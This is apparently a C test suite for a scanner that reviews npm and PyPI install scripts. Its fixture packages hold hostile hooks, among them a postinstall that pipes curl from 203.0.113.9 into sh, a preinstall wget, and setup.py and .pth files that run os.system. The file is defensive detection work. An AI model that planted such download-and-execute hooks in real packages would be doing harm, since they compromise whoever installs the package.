/* test_review_install.c: the install-scripts reviewer fires on crafted
 * packages (a postinstall that pipes a download into a shell, one that
 * fetches, setup.py cmdclass, a .pth autorun, the last of two package.json
 * entries, a package.json too big to parse) and, on the real packages,
 * reports exactly the two real postinstall scripts (core-js, es5-ext) at
 * MEDIUM and nothing else. */
#include "review_fixture.h"
#include "tap.h"

int main(void)
{
	fixture f;
	review_findings fs;
	const char *curl_sh[] = { "package.json",
		"{\n \"name\": \"x\",\n \"scripts\": {\n  \"postinstall\": \"curl -s http://203.0.113.9/p.sh | sh\"\n }\n}\n", NULL };
	fixture_crafted(&f, "npm", "x", curl_sh);
	fixture_review(&fs, &review_install, &f);
	const review_finding *x = fixture_find(&fs, "install-script-download-exec");
	ok(x && x->severity == SEV_CRITICAL, "a postinstall piping curl into sh is CRITICAL");
	ok(x && x->line == 4 && x->file && !strcmp(x->file, "package.json"), "... at package.json:4 (%d)", x ? x->line : -1);
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *fetch[] = { "package.json", "{\"scripts\":{\"preinstall\":\"wget https://example.invalid/x\"}}", NULL };
	fixture_crafted(&f, "npm", "x", fetch);
	fixture_review(&fs, &review_install, &f);
	ok(fixture_find(&fs, "install-script-network") && fixture_worst(&fs) == SEV_HIGH, "a preinstall that downloads is HIGH");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	/* Two package.json entries: npm installs the last one, so that is the
	 * one whose scripts are judged. */
	const char *twins[] = { "package.json", "{\"name\":\"x\"}",
		"package.json", "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"curl -s http://203.0.113.9/p | sh\"}}", NULL };
	fixture_crafted(&f, "npm", "x", twins);
	fixture_review(&fs, &review_install, &f);
	ok(fixture_find(&fs, "install-script-download-exec") != NULL, "of two package.json entries, the last one's scripts are judged");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	/* A package.json kept as windows (over the single-file cap) cannot be
	 * parsed: what runs at install is unknown, which is HIGH. */
	const char *huge[] = { "package.json", "{\"name\":\"x\",\"description\":\"", NULL };
	fixture_crafted(&f, "npm", "x", huge);
	f.files.files[0].size = (size_t)17 << 20;
	fixture_review(&fs, &review_install, &f);
	ok(fixture_find(&fs, "manifest-unreadable") && fixture_worst(&fs) == SEV_HIGH,
	   "a package.json over one window is HIGH: its scripts could not be read");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *plain[] = { "package.json", "{\"scripts\":{\"install\":\"node build.js\",\"test\":\"jest\"}}", NULL };
	fixture_crafted(&f, "npm", "x", plain);
	fixture_review(&fs, &review_install, &f);
	ok(fs.n == 1 && fixture_worst(&fs) == SEV_MEDIUM, "a plain install script is MEDIUM, and 'test' is not a lifecycle script");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *gyp[] = { "package.json", "{\"name\":\"n\"}", "binding.gyp", "{}", NULL };
	fixture_crafted(&f, "npm", "n", gyp);
	fixture_review(&fs, &review_install, &f);
	ok(fixture_find(&fs, "native-build") && fixture_worst(&fs) == SEV_LOW, "binding.gyp: the implicit node-gyp build is LOW");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *setup[] = {
		"setup.py", "from setuptools import setup\nimport os\nclass I:\n    def run(self):\n        os.system('id')\n"
		            "setup(name='x', cmdclass={'install': I})\n",
		"evil.pth", "import os; os.system('touch /tmp/pwned')\n", NULL };
	fixture_crafted(&f, "pypi", "x", setup);
	fixture_review(&fs, &review_install, &f);
	x = fixture_find(&fs, "setup-cmdclass");
	ok(x && x->line == 6, "setup.py cmdclass is found at its line (%d)", x ? x->line : -1);
	ok(fixture_find(&fs, "setup-runtime-action") != NULL, "setup.py running os.system is HIGH");
	ok(fixture_find(&fs, "pth-autorun") != NULL, "a .pth with an import line is HIGH");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	/* The real packages. */
	int others_quiet = 1, saw_core = 0, saw_es5 = 0;
	for (size_t i = 0; fixture_clean[i]; i++) {
		fixture_real(&f, fixture_clean[i]);
		fixture_review(&fs, &review_install, &f);
		int has_script = strstr(fixture_clean[i], "core-js") || strstr(fixture_clean[i], "es5-ext");
		if (has_script) {
			int one = fs.n == 1 && !strcmp(fs.items[0].code, "install-script") && fs.items[0].severity == SEV_MEDIUM;
			if (strstr(fixture_clean[i], "core-js"))
				saw_core = one;
			else
				saw_es5 = one;
		} else if (fs.n) {
			others_quiet = 0;
		}
		review_findings_dispose(&fs);
		fixture_dispose(&f);
	}
	ok(saw_core && saw_es5, "the real postinstall scripts of core-js and es5-ext are reported, at MEDIUM");
	ok(others_quiet, "the other real packages have no install findings at all");
	{
		fixture pf;
		review_findings pfs;
		const char *pth[] = { "distutils-precedence.pth",
		                      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
		                      "'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
		                      "evil.pth", "import os; os.system('id')\n", NULL };
		fixture_crafted(&pf, "pypi", "x", pth);
		fixture_review(&pfs, &review_install, &pf);
		const review_finding *a = fixture_find(&pfs, "pth-import"), *b = fixture_find(&pfs, "pth-autorun");
		ok(a && a->severity == SEV_MEDIUM && !strcmp(a->file, "distutils-precedence.pth") && b &&
		   b->severity == SEV_HIGH && !strcmp(b->file, "evil.pth"),
		   ".pth: importing a shim is MEDIUM (setuptools), running a command is HIGH");
		review_findings_dispose(&pfs);
		fixture_dispose(&pf);
	}
	return tap_done();
}
